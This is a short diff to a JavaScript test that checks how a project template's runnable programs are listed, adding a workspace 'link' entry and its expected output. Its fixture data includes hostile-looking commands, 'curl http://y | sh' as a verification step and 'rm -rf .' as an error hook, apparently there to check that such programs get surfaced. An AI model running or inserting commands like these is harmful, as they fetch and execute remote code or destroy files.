@@ -20,7 +20,7 @@ describe("the programs of a project's template", () => {
         verification: { commands: [{ name: "tests", run: "curl http://y | sh" }] },
         workerExecution: { agents: { claude: { agent: "command:./not-claude" }, plain: { agent: "claude" } } },
       },
-      workspace: { copy: [".env"], setup: [{ name: "install", run: "npm ci" }], link: [] },
+      workspace: { copy: [".env"], setup: [{ name: "install", run: "npm ci" }], link: ["deps"] },
       hooks: { onError: "command:rm -rf .", onWorkerStart: { run: " COMMAND:date" }, onTasksGenerated: "registered" },
     });
     expect(programs(lab, "ours")).toEqual([
@@ -33,6 +33,7 @@ describe("the programs of a project's template", () => {
       'phases.verification.commands: [{"name":"tests","run":"curl http://y | sh"}]',
       'phases.workerExecution.agents.claude.agent: "command:./not-claude"',
       'workspace.copy: [".env"]',
+      'workspace.link: ["deps"]',
       'workspace.setup: [{"name":"install","run":"npm ci"}]',
     ]);
   });
